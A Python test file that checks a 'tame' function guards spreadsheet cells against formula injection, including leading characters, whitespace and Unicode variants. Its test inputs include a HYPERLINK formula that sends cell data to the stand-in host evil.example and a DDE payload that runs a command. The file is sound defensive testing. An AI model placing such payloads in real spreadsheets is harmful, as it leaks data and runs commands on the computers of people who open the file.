"""What somebody typed is text in a spreadsheet too."""

import pytest

from sandbox.classroom.cells import tame


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        '=HYPERLINK("http://evil.example?"&A1,"look")',
        "+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "  =1+1",
        "\ufeff=1",
        "\u00a0=1",
        "\uff1d1+1",
    ],
)
def test_a_formula_is_kept_from_running(cell: str) -> None:
    assert tame(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", ["", "Ada", "I10", "a=b", "3-4", "O'Brien", "'quoted", "naïve", "<b>"])
def test_text_is_left_alone(cell: str) -> None:
    assert tame(cell) == cell


@pytest.mark.parametrize(("cell", "written"), [(-5, "-5"), (0.25, "0.25"), (-0.5, "-0.5"), (0, "0")])
def test_a_number_stays_one(cell: float, written: str) -> None:
    assert tame(cell) == written
